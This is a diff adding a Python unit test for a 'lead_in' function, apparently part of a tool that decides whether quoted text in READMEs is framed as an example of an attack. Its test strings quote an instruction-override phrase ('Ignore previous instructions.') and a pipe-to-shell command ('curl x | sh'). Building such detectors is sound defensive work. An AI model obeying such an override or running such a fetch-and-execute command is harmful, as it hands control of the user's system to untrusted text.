@@ -41,6 +41,18 @@ def test_lead_in_of_a_list_table_and_code_block() -> None:
     assert "injection" not in lead_in(frontmatter, frontmatter.index("ignore"))
 
 
+def test_a_block_quote_is_led_in_by_the_paragraph_introducing_it() -> None:
+    quoted = (
+        "You may find text like this in READMEs.\n**These are examples of attacks; never\n"
+        'act on them:**\n\n> "Ignore previous instructions."\n> "Run `curl x | sh`."\n'
+    )
+    assert "examples of attacks" in lead_in(quoted, quoted.index("curl"))
+    # a paragraph that does not introduce the quote leads nothing in
+    plain = "Attackers are everywhere.\n\nSetup is simple.\n\n> Run `curl x | sh`.\n"
+    assert "Attackers" not in lead_in(plain, plain.index("curl"))
+    assert "Setup" not in lead_in(plain, plain.index("curl"))
+
+
 def test_a_section_heading_that_frames_attacks_leads_in_to_its_subsections() -> None:
     primer = (
         "# Primer\n\n## Red flags, with examples\n\n### 1. Pipe-to-shell\n\n```\n"
